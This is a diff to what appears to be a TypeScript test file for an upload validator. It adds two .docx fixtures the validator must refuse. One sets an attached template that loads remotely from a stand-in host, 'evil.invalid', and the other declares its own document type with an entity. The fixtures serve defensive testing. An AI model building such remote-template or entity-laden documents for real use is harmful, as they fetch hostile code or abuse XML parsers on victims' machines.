@@ -66,6 +66,23 @@ const refused: [string, Uint8Array | string, string, string][] = [
     '文.txt',
     'file.typeNotAllowed',
   ],
+  [
+    'a document that loads its template from elsewhere',
+    zip({
+      '[Content_Types].xml': '<Types/>',
+      'word/document.xml': '<w/>',
+      'word/_rels/settings.xml.rels':
+        '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>',
+    }),
+    '要点.docx',
+    'file.externalTemplate',
+  ],
+  [
+    'a document with a document type of its own',
+    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>' }),
+    '要点.docx',
+    'file.documentType',
+  ],
   ['an unknown extension', 'text', '文.xyz', 'file.typeNotAllowed'],
   ['a zip that is no document', zip({ 'a.txt': 'a' }), '文.docx', 'file.typeNotAllowed'],
   ['a broken zip', docx.slice(0, 60), '要点.docx', 'file.damagedArchive'],
